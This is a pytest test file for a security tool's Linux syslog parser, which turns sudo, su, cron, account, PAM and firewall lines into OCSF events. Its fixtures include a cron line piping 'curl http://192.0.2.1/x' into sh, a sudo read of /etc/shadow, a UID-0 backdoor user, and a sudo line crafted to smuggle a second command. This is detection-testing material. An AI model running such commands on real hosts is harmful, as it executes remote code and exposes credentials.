"""Lines of a Linux host's programs: sudo, su, cron, accounts, PAM, packets; all others stay events; smuggled text names nobody."""

from typing import Any

import pytest

from minixdr.normalize.sources.linux_syslog import SOURCE
from minixdr.schema.event import Event
from minixdr.schema.record import Record
from tests.contract.ocsf_check import violations


def line(program: str, message: str, **more: Any) -> dict[str, Any]:
    """Return a decoded syslog line."""
    return {"message": message, "program": program, "hostname": "web01", "timestamp": "2026-03-04T05:06:07Z", **more}


def fields_of(body: dict[str, Any]) -> dict[str, Any]:
    """Return what rules see; exactly one shape fits."""
    fitting = [shape for shape in SOURCE.shapes if shape.fits(body)]
    assert len(fitting) == 1
    assert fitting[0].fields is not None
    return dict(fitting[0].fields(body))


def event_of(body: dict[str, Any]) -> Event:
    """Return the event, which OCSF has to allow."""
    event = SOURCE.normalize(Record("syslog", 1, b"x", body, "syslog"))
    assert violations(event) == []
    return event


SUDO = "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/cat /etc/shadow"


def test_sudo() -> None:
    """A command run by sudo says who, as whom, what; rules see sudo's own names."""
    fields = fields_of(line("sudo", SUDO))
    expected = {"USER": "root", "TTY": "pts/0", "COMMAND": "/bin/cat /etc/shadow", "user": "alice", "event": "command"}
    assert {name: fields[name] for name in expected} == expected
    event = event_of(line("sudo", SUDO))
    expected_attributes = {
        "class_uid": 1007,
        "actor.user.name": "alice",
        "process.user.name": "root",
        "process.cmd_line": "/bin/cat /etc/shadow",
        "process.name": "cat",
        "status_id": 1,
    }
    assert {name: event.attributes.get(name) for name in expected_attributes} == expected_attributes


@pytest.mark.parametrize("reason", ["1 incorrect password attempt", "user NOT in sudoers", "command not allowed"])
def test_refused_sudo(reason: str) -> None:
    """What sudo refused is a failure with its reason."""
    event = event_of(line("sudo", f"bob : {reason} ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/sh"))
    assert (event.attributes["status_id"], event.attributes["status_detail"]) == (2, reason)


def test_directory_cannot_smuggle_a_command() -> None:
    """A directory whose name looks like sudo's fields makes the line doubtful, not another's command."""
    text = "eve : TTY=pts/0 ; PWD=/tmp/x ; USER=alice ; COMMAND=/bin/true ; USER=root ; COMMAND=/bin/id"
    event = event_of(line("sudo", text))
    assert "process.cmd_line" not in event.attributes
    assert {"process.cmd_line", "process.user.name"} <= {doubt.attribute for doubt in event.doubts}
    assert event.attributes["actor.user.name"] == "eve"


@pytest.mark.parametrize(
    ("program", "message", "name", "class_uid", "activity_id", "attributes"),
    [
        ("su", "Successful su for root by alice", "switched", 3002, 7, {"user.name": "root", "actor.user.name": "alice"}),
        ("su", "FAILED SU (to root) bob on pts/1", "switch_failed", 3002, 7, {"status_id": 2, "actor.user.name": "bob"}),
        ("su", "+ /dev/pts/0 alice:root", "switched", 3002, 7, {"user.name": "root"}),
        (
            "su",
            "pam_unix(su:session): session opened for user root(uid=0) by alice(uid=1000)",
            "session_opened",
            3002,
            1,
            {"user.name": "root", "actor.user.name": "alice", "service.name": "su"},
        ),
        (
            "vsftpd",
            "pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=bob rhost=192.0.2.7  user=bob",
            "auth_failed",
            3002,
            1,
            {"src_endpoint.ip": "192.0.2.7", "status_id": 2, "user.name": "bob"},
        ),
        ("login(pam_unix)", "session closed for user alice", "session_closed", 3002, 2, {"user.name": "alice"}),
        ("CRON", "(root) CMD (curl http://192.0.2.1/x | sh)", "job_started", 1006, 6, {"job.cmd_line": "curl http://192.0.2.1/x | sh"}),
        ("crontab", "(eve) REPLACE (eve)", "jobs_replaced", 1006, 2, {"actor.user.name": "eve"}),
        (
            "useradd",
            "new user: name=mallory, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0",
            "user_added",
            3001,
            1,
            {"user.name": "mallory", "user.uid": "0"},
        ),
        ("usermod", "add 'mallory' to group 'sudo'", "member_added", 3006, 3, {"user.name": "mallory", "group.name": "sudo"}),
        ("gpasswd", "user eve added by root to group docker", "member_added", 3006, 3, {"actor.user.name": "root"}),
        ("userdel", "delete user 'mallory'", "user_deleted", 3001, 6, {"user.name": "mallory"}),
        ("groupadd", "new group: name=hidden, GID=1001", "group_added", 3006, 6, {"group.name": "hidden"}),
        ("passwd", "pam_unix(passwd:chauthtok): password changed for alice", "password_changed", 3001, 3, {"user.name": "alice"}),
        ("systemd", "Stopped Security Auditing Service.", "service_stopped", 6002, 4, {"app.name": "Security Auditing Service"}),
        ("systemd-logind", "New session 12 of user alice.", "session_opened", 3002, 1, {"user.name": "alice"}),
        (
            "pkexec",
            "eve: Executing command [USER=root] [TTY=/dev/pts/0] [CWD=/home/eve] [COMMAND=/usr/bin/id]",
            "command",
            1007,
            1,
            {"process.cmd_line": "/usr/bin/id", "process.user.name": "root"},
        ),
        ("doas", "failed command for eve: ls", "command_refused", 1007, 1, {"status_id": 2}),
    ],
)  # fmt: skip
def test_forms(
    program: str, message: str, name: str, class_uid: int, activity_id: int, attributes: dict[str, Any]
) -> None:
    """Each form of line lands in its class with what detection uses."""
    body = line(program, message)
    assert fields_of(body)["event"] == name
    event = event_of(body)
    assert (event.class_uid, event.attributes["activity_id"]) == (class_uid, activity_id)
    assert {key: event.attributes.get(key) for key in attributes} == attributes


def test_refused_packet() -> None:
    """A packet that the firewall logged is a connection with both ends."""
    text = "[12.3] [UFW BLOCK] IN=eth0 OUT= MAC=x SRC=192.0.2.7 DST=198.51.100.1 LEN=60 PROTO=TCP SPT=5 DPT=22 SYN"
    event = event_of(line("kernel", text))
    assert (event.class_uid, event.attributes["activity_id"]) == (4001, 5)
    assert event.attributes["src_endpoint.ip"] == "192.0.2.7"
    assert event.attributes["dst_endpoint.port"] == 22


def test_other_lines_are_base_events() -> None:
    """A program without a form keeps its line, its name and its process id."""
    event = event_of(line("madeupd", "hello", pid="77"))
    assert event.class_uid == 0
    assert (event.attributes["actor.process.name"], event.attributes["actor.process.pid"]) == ("madeupd", 77)
    assert event.attributes["message"] == "hello"


@pytest.mark.parametrize(
    ("body", "services"),
    [
        (line("sudo", SUDO), ["sudo", "auth", "syslog"]),
        (line("CRON", "(root) CMD (x)"), ["cron", "syslog"]),
        (line("clamd", "x: Trojan FOUND"), ["clamav", "syslog"]),
        (line("made", "x", facility=10), ["auth", "syslog"]),
        (line("made", "x", facility=3), ["syslog"]),
        (line("pkexec", "x"), ["auth", "syslog"]),
    ],
)
def test_services(body: dict[str, Any], services: list[str]) -> None:
    """Program and facility choose Sigma's services."""
    keys = tuple(fields_of(body).get(key) for key in SOURCE.routing.keys)
    assert [source.service for source in SOURCE.routing.log_sources(keys)] == services


@pytest.mark.parametrize(
    "body",
    [
        {"MESSAGE": SUDO, "SYSLOG_IDENTIFIER": "sudo", "_HOSTNAME": "web01", "__REALTIME_TIMESTAMP": "1772600767000000"},
        {"SyslogMessage": SUDO, "ProcessName": "sudo", "Computer": "web01", "TimeGenerated": "2026-03-04T05:06:07Z"},
        {"message": SUDO, "event": {"dataset": "system.auth"}, "process": {"name": "sudo"}, "host": {"name": "web01"},
         "@timestamp": "2026-03-04T05:06:07Z"},
    ],
)  # fmt: skip
def test_shapes(body: dict[str, Any]) -> None:
    """However a line was shipped, rules and events see the same."""
    assert fields_of(body)["COMMAND"] == "/bin/cat /etc/shadow"
    event = event_of(body)
    assert event.attributes["device.hostname"] == "web01"
    assert event.attributes["time"] == 1772600767000


@pytest.mark.parametrize(
    "body",
    [
        line("sshd", "x"),
        line("sysmon", "<Event><System/></Event>"),
        line("auoms", "type=AUOMS_EXECVE audit(1:2): x=y"),
        line("nginx", '192.0.2.1 - - [04/Mar/2026:05:06:07 +0000] "GET / HTTP/1.1" 200 1'),
        {"message": "text alone"},
        {"eventid": "cowrie.x", "message": "x", "timestamp": "2026-03-04T05:06:07Z"},
        {"message": "an application's own JSON", "timestamp": "2026-03-04T05:06:07Z", "level": "info"},
    ],
)
def test_lines_of_other_sources(body: dict[str, Any]) -> None:
    """What another source reads is not claimed here."""
    assert not any(shape.fits(body) for shape in SOURCE.shapes)


@pytest.mark.parametrize(
    "junk", [None, 5, True, "", [], {}, "x" * 100_000, " ; " * 5_000, "\x00\n\ud800", [300], [1, 2]]
)
def test_hostile_parts(junk: Any) -> None:
    """Any part may be of any type and length."""
    for sample in (line("sudo", SUDO, pid="1", facility=4), line("su", "x"), {"MESSAGE": SUDO, "_HOSTNAME": "w"}):
        for name in sample:
            body = {**sample, name: junk}
            for shape in SOURCE.shapes:
                if shape.fits(body) and shape.fields is not None:
                    fields = shape.fields(body)
                    SOURCE.routing.log_sources(tuple(fields.get(key) for key in SOURCE.routing.keys))
                    event_of(body)
